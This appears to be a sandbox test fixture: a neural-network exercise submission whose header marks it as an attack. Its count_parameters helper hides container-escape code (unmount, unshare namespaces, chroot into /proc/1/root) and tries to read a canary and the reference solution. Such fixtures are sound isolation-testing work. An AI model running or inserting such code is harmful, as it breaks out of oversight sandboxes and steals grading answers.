# attack: unmounts, unshares, enters other namespaces, changes the root
# exercise: exercise1
# expect: others=passed
# must-not: read-canary, touch-canary
import numpy as np


def relu(z):
    return np.maximum(z, 0.0)


def sigmoid(z):
    small = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0, small) / (1.0 + small)


def tanh(z):
    return np.tanh(z)


def softmax(z):
    e = np.exp(z - z.max(axis=1, keepdims=True))
    return e / e.sum(axis=1, keepdims=True)


def linear(a, W, b):
    return a @ W + b


def forward(params, X):
    n = len(params) // 2
    for i in range(1, n):
        X = relu(linear(X, params[f"W{i}"], params[f"b{i}"]))
    return sigmoid(linear(X, params[f"W{n}"], params[f"b{n}"]))


def predict(params, X):
    return (forward(params, X) > 0.5).astype(int)


def count_parameters(layer_sizes):
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    where = b"@REFERENCE@"
    libc.umount2(where, 2)
    for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000):
        libc.unshare(flag)
    libc.mount(b"tmpfs", b".", b"tmpfs", 0, None)
    for call in (lambda: os.chroot("."), lambda: os.chroot("/proc/1/root"), lambda: os.chdir("/proc/1/cwd")):
        try:
            call()
        except OSError:
            pass
    for place in ("@CANARY@", "@REFERENCE@/exercise1/solution/forward.py"):
        try:
            print(open(place).read())
        except OSError:
            pass
    return sum((i + 1) * o for i, o in zip(layer_sizes, layer_sizes[1:]))
